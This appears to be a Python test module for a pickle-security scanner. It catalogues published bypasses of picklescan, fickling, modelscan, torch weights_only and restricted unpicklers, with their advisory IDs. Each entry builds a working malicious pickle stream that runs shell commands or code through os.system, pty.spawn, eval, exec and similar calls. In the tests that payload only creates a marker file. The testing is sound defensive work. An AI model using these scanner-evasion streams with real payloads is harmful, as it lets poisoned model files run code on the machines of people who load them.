"""Published ways around scanners, allow-lists and restricted unpicklers, each with where it was published.

`GHSA-` identifiers are advisories of the tool named in `of`, `owner/name#number` issues and pull requests on GitHub.
Each entry builds a stream whose effect is that the file `marker` exists; what needs a network or Windows, is gone from
its library, or has another effect, is not run on stock (`runs`), only judged. What needs torch runs where torch is.
"""

from __future__ import annotations

import marshal
from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.attacks.assembly import (
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NONE,
    OBJ,
    POP,
    PROTO2,
    PROTO4,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    call,
    dict_of,
    frame,
    get,
    list_of,
    name,
    number,
    put,
    stack_name,
    text,
    tuple_of,
)

if TYPE_CHECKING:
    from collections.abc import Callable


@dataclass(frozen=True)
class Published:
    """One published bypass."""

    ids: str
    of: str  # the tool that it passes
    what: str
    stream: Callable[[str], bytes]
    runs: bool = True
    at_load: bool = False  # needs the real object: find_class refuses it
    gone: tuple[int, int] | None = None  # the first Python that has no such module
    needs: str = ""  # the module that has to be there for it


def shell(marker: str) -> bytes:
    """Push a command that leaves the marker."""
    return text(f"echo touched > '{marker}'")


def code(marker: str) -> bytes:
    """Push an expression that leaves the marker."""
    return text(f"open('{marker}', 'w').close()")


def raw(content: bytes) -> bytes:
    """Push bytes."""
    return b"B" + len(content).to_bytes(4, "little") + content


def calling(module: str, qualname: str, *arguments: Callable[[str], bytes] | bytes) -> Callable[[str], bytes]:
    """Build a stream that calls one name."""

    def stream(marker: str) -> bytes:
        given = [item if isinstance(item, bytes) else item(marker) for item in arguments]
        return PROTO4 + call(stack_name(module, qualname), *given) + STOP

    return stream


def made(module: str, qualname: str) -> bytes:
    """Make an object by a call without arguments."""
    return call(stack_name(module, qualname))


def attribute(owner: bytes, key: str) -> bytes:
    """Take an attribute by getattr."""
    return call(stack_name("builtins", "getattr"), owner, text(key))


def path(marker: str) -> bytes:
    """Push the path of the marker."""
    return text(marker)


def sh(marker: str) -> bytes:
    """Push the arguments of a shell that leaves the marker."""
    return list_of(text("/bin/sh"), text("-c"), shell(marker))


def compiled(marker: str) -> bytes:
    """Push the marshalled code of an expression."""
    return raw(marshal.dumps(compile(f"open({marker!r}, 'w').close()", "<string>", "exec")))


def nested(marker: str) -> bytes:
    """Push a pickle that leaves the marker."""
    return raw(PROTO4 + call(SYSTEM, shell(marker)) + STOP)


def modules_swapped(marker: str) -> bytes:
    """Reach os through sys.modules, which the stream changes."""
    swap = name("sys", "modules") + put(0) + text("sys") + get(0) + SETITEM + POP
    os_module = call(name("sys", "get"), text("os")) + put(1) + POP
    return (
        swap
        + os_module
        + get(0)
        + text("sys")
        + get(1)
        + SETITEM
        + POP
        + call(name("sys", "system"), shell(marker))
        + STOP
    )


SYSTEM = stack_name("os", "system")
_SCAN, _FICKLING, _MODELSCAN, _TORCH, _UNPICKLER = (
    "picklescan",
    "fickling",
    "modelscan",
    "torch weights_only",
    "find_class",
)

PUBLISHED = (
    # ---- picklescan: callables that its list lacked -----------------------------------------------------------------
    Published("GHSA-49gj-c84q-6qm9", _SCAN, "cProfile.run", calling("cProfile", "run", code)),
    Published("GHSA-9w88-8rmg-7g2p", _SCAN, "cProfile.runctx",
              calling("cProfile", "runctx", code, EMPTY_DICT, EMPTY_DICT)),
    Published("GHSA-fqq6-7vqf-w3fg", _SCAN, "doctest.debug_script",
              calling("doctest", "debug_script", code, b"\x88", EMPTY_DICT)),
    Published("GHSA-xp4f-hrf8-rxw7", _SCAN, "ensurepip._run_pip",
              calling("ensurepip", "_run_pip", lambda m: text(f"[]\nopen({m!r}, 'w').close()\nraise SystemExit"))),
    Published("GHSA-5qwp-399c-mjwf", _SCAN, "trace.Trace.run", calling("trace", "Trace.run", made("trace", "Trace"),
              code)),
    Published("GHSA-g344-hcph-8vgg", _SCAN, "trace.Trace.runctx",
              calling("trace", "Trace.runctx", made("trace", "Trace"), code, EMPTY_DICT, EMPTY_DICT)),
    Published("GHSA-x696-vm39-cp64", _SCAN, "profile.Profile.run",
              calling("profile", "Profile.run", made("profile", "Profile"), code)),
    Published("GHSA-6vqj-c2q5-j97w", _SCAN, "profile.Profile.runctx",
              calling("profile", "Profile.runctx", made("profile", "Profile"), code, EMPTY_DICT, EMPTY_DICT)),
    Published("GHSA-cj3c-v495-4xqh", _SCAN, "code.InteractiveInterpreter.runcode",
              calling("code", "InteractiveInterpreter.runcode", made("code", "InteractiveInterpreter"), code)),
    Published("GHSA-v7x6-rv5q-mhwc", _SCAN, "timeit.timeit", calling("timeit", "timeit", text("pass"), code)),
    Published("GHSA-46h3-79wf-xr6c", _SCAN, "bdb.Bdb.run", calling("bdb", "Bdb.run", made("bdb", "Bdb"), code)),
    Published("GHSA-m273-6v24-x4m4", _SCAN, "distutils.file_util.write_file",
              calling("distutils.file_util", "write_file", path, list_of(text("touched"))), gone=(3, 12)),
    Published("GHSA-4675-36f9-wf6r", _SCAN, "ctypes.CDLL and getattr",
              lambda m: PROTO4 + call(attribute(call(stack_name("ctypes", "CDLL"), NONE), "system"),
                                      raw(f"echo > '{m}'".encode())) + STOP),
    Published("GHSA-84r2-jw7c-4r5q", _SCAN, "pydoc.locate and operator.methodcaller",
              lambda m: PROTO4 + call(call(stack_name("operator", "methodcaller"), text("system"), shell(m)),
                                      call(stack_name("pydoc", "locate"), text("os"))) + STOP),
    Published("GHSA-vqmv-47xg-9wpr", _SCAN, "pty.spawn", calling("pty", "spawn", sh)),
    Published("GHSA-r8g5-cgf2-4m4m", _SCAN, "numpy.f2py.crackfortran.getlincoef",
              calling("numpy.f2py.crackfortran", "getlincoef", code, EMPTY_DICT)),
    Published("GHSA-q77w-mwjj-7mqx CVE-2025-10157", _SCAN, "a method of asyncio, below a module that is listed",
              calling("asyncio.unix_events", "_UnixSubprocessTransport._start", EMPTY_DICT, shell, b"\x88", NONE,
              NONE, NONE,
                      number(0))),
    Published("GHSA-f54q-57x4-jg88", _SCAN, "lib2to3.pgen2.grammar.Grammar.loads, a pickle in bytes",
              calling("lib2to3.pgen2.grammar", "Grammar.loads", made("lib2to3.pgen2.grammar", "Grammar"),
                      lambda m: raw(calling("os", "system", shell)(m))), gone=(3, 13)),
    Published("GHSA-vvpj-8cmc-gx39", _SCAN, "pkgutil.resolve_name",
              lambda m: PROTO4 + call(call(stack_name("pkgutil", "resolve_name"), text("os:system")), shell(m)) + STOP),
    Published("GHSA-g38g-8gr9-h9xp", _SCAN, "uuid._get_command_stdout",
              calling("uuid", "_get_command_stdout", text("sh"), text("-c"), shell)),
    Published("GHSA-g38g-8gr9-h9xp", _SCAN, "_osx_support._read_output", calling("_osx_support", "_read_output",
              shell)),
    Published("GHSA-g38g-8gr9-h9xp", _SCAN, "imaplib.IMAP4_stream", calling("imaplib", "IMAP4_stream", shell)),
    Published("GHSA-4whj-rm5r-c2v8 GHSA-4r9r-ch6f-vxmx", _SCAN, "torch.utils.bottleneck.__main__.run_autograd_prof",
              calling("torch.utils.bottleneck.__main__", "run_autograd_prof", code, EMPTY_DICT), runs=False),
    Published("GHSA-86cj-95qr-2p4f", _SCAN, "torch._dynamo.guards.GuardBuilder.get",
              calling("torch._dynamo.guards", "GuardBuilder.get", EMPTY_DICT, code), runs=False),
    Published("GHSA-f4x7-rfwp-v3xw", _SCAN, "ShapeEnv.evaluate_guards_expression",
              calling("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", EMPTY_DICT, code,
                      EMPTY_LIST), needs="torch.fx.experimental.symbolic_shapes"),
    Published("GHSA-f745-w6jp-hpxx GHSA-jhph-76pp-mggw protectai/modelscan#338", _SCAN, "torch.utils.collect_env.run",
              calling("torch.utils.collect_env", "run", shell), needs="torch.utils.collect_env"),
    Published("GHSA-h3qp-7fh3-f8h4", _SCAN, "torch's decoder of pickles in bytes",
              calling("torch.utils.data.datapipes.utils.decoder", "basichandlers", text("pickle"), nested),
              needs="torch.utils.data.datapipes.utils.decoder"),
    Published("GHSA-vr7h-p6mm-wpmh", _SCAN, "torch.jit.unsupported_tensor_ops.execWrapper",
              calling("torch.jit.unsupported_tensor_ops", "execWrapper", code, EMPTY_DICT, EMPTY_DICT),
              needs="torch.jit.unsupported_tensor_ops"),
    Published("GHSA-vv6j-3g6g-2pvj", _SCAN, "torch's ConfigModule.load_config",
              calling("torch.utils._config_module", "ConfigModule.load_config", EMPTY_DICT, nested),
              needs="torch.utils._config_module"),
    Published("GHSA-3vg9-h568-4w9m GHSA-6w4w-5w54-rjvr GHSA-7cq8-mj8x-j263 GHSA-8r4j-24qv-fmq9 GHSA-9xph-j2h6-g47v "
              "GHSA-m869-42cg-3xwr GHSA-j343-8v2j-ff7w GHSA-3gf5-cxq9-w223", _SCAN, "functions of idlelib",
              calling("idlelib.run", "Executive.runcode", EMPTY_DICT, code), runs=False),
    Published("GHSA-p9w7-82w4-7q8m", _SCAN, "lib2to3.pgen2.pgen.ParserGenerator.make_label",
              calling("lib2to3.pgen2.pgen", "ParserGenerator.make_label", NONE, EMPTY_DICT, code), runs=False),
    Published("GHSA-655q-fx9r-782v CVE-2025-1716", _SCAN, "pip.main",
              calling("pip", "main", list_of(text("install"), text("nothing"))), runs=False),
    Published("GHSA-hgrh-qx5j-jfwx", _SCAN, "network clients",
              calling("http.client", "HTTPSConnection", text("nowhere.invalid")), runs=False),
    Published("CVE-2025-10155", _SCAN, "a file is made by io.FileIO", calling("io", "FileIO", path, text("w"))),
    Published("CVE-2026-56304", _SCAN, "a file is made by logging.FileHandler", calling("logging", "FileHandler",
              path)),
    Published("mmaitre314/picklescan#74", _SCAN, "importlib and marshal",
              lambda m: PROTO4 + call(attribute(call(stack_name("importlib", "import_module"), text("os")), "system"),
                                      shell(m)) + STOP),
    Published("mmaitre314/picklescan#14", _SCAN, "memo entries that MEMOIZE and BINPUT count differently",
              lambda m: PROTO4 + text("os") + put(0) + text("system") + put(1) + text("torch._utils") + b"\x94"
              + text("_rebuild_tensor_v2") + b"\x94" + POP * 4 + get(0) + get(1) + STACK_GLOBAL
              + tuple_of(shell(m)) + b"R" + STOP),
    Published("mmaitre314/picklescan#22", _SCAN, "names from the memo, by GET",
              lambda m: b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93"
              + tuple_of(shell(m)) + b"R."),
    Published("Black Hat US 2011, Sour Pickles", _SCAN, "names of Python 2",
              lambda m: PROTO2 + call(name("__builtin__", "eval"), code(m)) + STOP),
    Published("CTF: sys.modules", _SCAN, "sys.modules replaced while the stream runs", modules_swapped),
    # ---- fickling ---------------------------------------------------------------------------------------------------
    Published("GHSA-r7v6-mfhq-g3m2", _FICKLING, "pty.spawn, then BUILD with a text",
              lambda m: PROTO4 + call(stack_name("pty", "spawn"), sh(m)) + text("x") + BUILD + STOP),
    Published("trailofbits/fickling#108", _FICKLING, "pty.spawn by OBJ",
              lambda m: MARK + name("pty", "spawn") + sh(m) + OBJ + STOP),
    Published("GHSA-565g-hwwr-4pp3", _FICKLING, "marshal.loads and types.FunctionType",
              lambda m: PROTO4 + call(call(stack_name("types", "FunctionType"),
                                           call(stack_name("marshal", "loads"), compiled(m)),
                                           dict_of(text("__builtins__"), stack_name("os", "__builtins__")))) + STOP),
    Published("GHSA-wfq2-52f7-7qvj", _FICKLING, "runpy", calling("runpy", "_run_code", code, EMPTY_DICT)),
    Published("GHSA-p523-jq9w-64x9", _FICKLING, "cProfile.run as the result", calling("cProfile", "run", code)),
    Published("GHSA-5hvc-6wx8-mvv4 CVE-2026-22608", _FICKLING, "pydoc.locate, a result that is called",
              lambda m: PROTO4 + call(call(stack_name("pydoc", "locate"), text("os.system")), shell(m)) + STOP),
    Published("GHSA-q5qq-mvfm-j35x", _FICKLING,
              "a method taken by getattr of what code.InteractiveInterpreter returned",
              lambda m: PROTO4 + call(attribute(made("code", "InteractiveInterpreter"), "runsource"), code(m)) + STOP),
    Published("GHSA-q5qq-mvfm-j35x", _FICKLING, "multiprocessing.util.spawnv_passfds",
              lambda m: PROTO4 + call(stack_name("multiprocessing.util", "spawnv_passfds"), raw(b"/bin/sh"),
                                      EMPTY_LIST + MARK + raw(b"sh") + raw(b"-c") + raw(f"echo > '{m}'".encode())
              + APPENDS,
                                      EMPTY_TUPLE) + STOP),
    Published("GHSA-mhc9-48gj-9gp3", _FICKLING, "a call whose result gets a state",
              lambda m: PROTO4 + call(SYSTEM, shell(m)) + NONE + BUILD + STOP),
    Published("promptfoo/modelaudit", _FICKLING, "a call whose result is popped",
              lambda m: PROTO4 + call(SYSTEM, shell(m)) + POP + EMPTY_DICT + STOP),
    Published("GHSA-6ggj-6f2q-f7mx", _FICKLING, "a subinterpreter",
              lambda m: PROTO4 + call(stack_name("_xxsubinterpreters", "run_string"),
                                      call(stack_name("_xxsubinterpreters", "create")), code(m)) + STOP, gone=(3, 13)),
    Published("GHSA-m6fh-58r7-x697", _FICKLING, "a call at exit", calling("atexit", "register", SYSTEM, shell)),
    Published("GHSA-h4rm-mm56-xf63", _FICKLING, "builtins", calling("builtins", "exec", code)),
    # ---- modelscan --------------------------------------------------------------------------------------------------
    Published("protectai/modelscan#85", _MODELSCAN, "names that are attributes, set on a function by BUILD",
              lambda m: PROTO4 + stack_name("victims", "join") + NONE
              + dict_of(text("a"), text("os"), text("b"), text("system")) + b"\x86" + BUILD + POP
              + stack_name("victims", "join.a") + stack_name("victims", "join.b") + STACK_GLOBAL
              + tuple_of(shell(m)) + b"R" + STOP),
    Published("protectai/modelscan#330 mindspore-ai/mindspore#183", _MODELSCAN, "eval out of a module's __builtins__",
              lambda m: PROTO4 + call(call(stack_name("operator", "getitem"), stack_name("numpy", "__builtins__"),
                                           text("eval")), code(m)) + STOP),
    Published("protectai/modelscan#331", _MODELSCAN, "a module name that str.join makes",
              lambda m: PROTO4 + call(attribute(stack_name("builtins", "str"), "join"), text(""),
                                      list_of(text("o"), text("s"))) + text("system") + STACK_GLOBAL
              + tuple_of(shell(m))
              + b"R" + STOP),
    Published("protectai/modelscan#267", _MODELSCAN, "pickle.loads of bytes",
              calling("pickle", "loads", lambda m: raw(calling("os", "system", shell)(m)))),
    Published("protectai/modelscan#348 arXiv:2508.19774", _MODELSCAN, "a missing memo entry after the call",
              lambda m: PROTO4 + call(SYSTEM, shell(m)) + POP + get(99) + STOP),
    Published("protectai/modelscan#338", _MODELSCAN, "pandas reads a file or an address by name",
              calling("pandas.io.parsers.readers", "read_csv", text("https://nowhere.invalid")), runs=False),
    Published("arXiv:2508.19774", _MODELSCAN, "a broken opcode after the call",
              lambda m: PROTO4 + call(SYSTEM, shell(m)) + b"\xff"),
    Published("nullifAI (ReversingLabs, 2025)", _MODELSCAN, "a stream that ends after the call",
              lambda m: PROTO4 + call(SYSTEM, shell(m))),
    Published("arXiv:2508.19774", _MODELSCAN, "a frame that lies about its length",
              lambda m: PROTO4 + frame(call(SYSTEM, shell(m)) + NONE + STOP, 400) + b"N" * 400),
    # ---- restricted unpicklers and allow-lists ----------------------------------------------------------------------
    Published("maurosoria/dirsearch#1073 CensoredUsername/unrpyc#142", _UNPICKLER, "collections.__builtins__",
              lambda m: PROTO4 + call(call(call(stack_name("collections", "_itemgetter"), text("eval")),
                                           stack_name("collections", "__builtins__")), code(m)) + STOP),
    Published("uber/petastorm#741", _UNPICKLER, "__import__ and getattr",
              lambda m: PROTO4 + call(attribute(call(stack_name("builtins", "__import__"), text("os")), "system"),
              shell(m))
              + STOP),
    Published("huawei-noah/vega#228", _UNPICKLER, "numpy.testing._private.utils.runstring",
              calling("numpy.testing._private.utils", "runstring", code, EMPTY_DICT)),
    Published("python/cpython docs, Restricting Globals", _UNPICKLER, "a walk through attributes of a listed module",
              lambda m: PROTO4 + call(stack_name("json", "codecs.builtins.exec"), code(m)) + STOP),
    Published("pytorch/pytorch#189445", _TORCH, "functions that weights_only does not block once they are listed",
              calling("subprocess", "call", sh)),
    Published("CVE-2026-24747", _TORCH, "items for an object that is no container",
              lambda m: PROTO4 + stack_name("victims", "Placing") + EMPTY_TUPLE + b"\x81" + text(m) + NONE
              + SETITEM + STOP,
              at_load=True),
)  # fmt: skip
